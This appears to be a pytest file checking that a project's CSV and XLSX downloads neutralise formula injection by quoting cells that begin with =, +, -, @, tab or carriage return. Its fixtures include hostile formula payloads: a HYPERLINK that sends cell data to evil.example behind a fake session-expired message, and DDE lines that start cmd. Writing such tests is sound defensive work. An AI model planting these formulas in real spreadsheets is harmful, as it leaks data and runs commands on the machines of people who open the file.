"""CSV / formula injection: no text cell of any CSV or XLSX the project writes can be a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from care_atlas.spreadsheet import FORMULA_LEADS, neutralise, neutralise_frame
from dashboard.views import xlsx_bytes
from queries.result import Column, ProtectedResult

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Your session has expired")',
    "=cmd|' /c calc'!A1",
    "+1+cmd|' /c calc'!A1",
    "-2+3",
    "@SUM(1+1)*cmd|' /c calc'!A1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_leading_text_gets_a_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["B23 6AB", "", "185.50", "a=b", "'=already", " =1", "[c]"])
def test_other_text_is_unchanged(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -185.5, None, True, pd.NA])
def test_non_text_is_unchanged(value: object) -> None:
    assert neutralise(value) is value


def test_the_rule_is_owasps() -> None:
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


#: Cells of a frame (a bare carriage return is left out: pandas does not quote it in a CSV).
CELLS = [*HOSTILE[:-1], "@x"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "area_name": CELLS,
            "category": pd.Categorical(["=1+1", "ok", "ok", "ok", "ok", "ok", "-x"]),
            "value": [-5.0, 1.0, None, 3.0, 4.0, -6.5, 7.0],
            "count": pd.array([-1, 2, None, 4, 5, 6, 7], dtype="Int64"),
            "value_status": ["", "[c]", "", "", "", "", ""],
        }
    )


def test_frame_neutralises_text_and_keeps_numbers() -> None:
    frame = _frame()
    out = neutralise_frame(frame)
    assert list(out["area_name"]) == ["'" + v for v in CELLS]
    assert list(out["category"]) == ["'=1+1", "ok", "ok", "ok", "ok", "ok", "'-x"]
    assert out["value"].equals(frame["value"]) and out["count"].equals(frame["count"])
    assert frame["area_name"][0] == HOSTILE[0]  # the caller's frame is not changed
    clean = frame.drop(columns=["area_name", "category"])
    assert neutralise_frame(clean) is clean


def _result() -> ProtectedResult:
    columns = [
        Column("area_name", "area"),
        Column("category", "category"),
        Column("value", "money"),
        Column("count", "count"),
        Column("value_status", "status"),
    ]
    return ProtectedResult(columns=columns, rows=_frame(), meta={"filters": {"areas": "=1+1"}})


def test_protected_result_csv_has_no_formula_cells() -> None:
    rows = list(csv.reader(io.StringIO(_result().to_csv())))
    cells = [cell for row in rows[1:] for cell in (row[0], row[1])]
    assert not any(cell.startswith(FORMULA_LEADS) for cell in cells)
    assert rows[1][0] == "'" + HOSTILE[0]
    assert rows[1][2] == "-5.0" and rows[1][3] == "-1"  # negative numbers stay numbers


def test_xlsx_download_has_no_formula_cells() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(_result())))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not any(t.startswith(FORMULA_LEADS) for t in texts)
    data = book["data"]
    assert data["A2"].value == "'" + HOSTILE[0]
    assert data["C2"].value == -5 and data["C2"].data_type == "n"
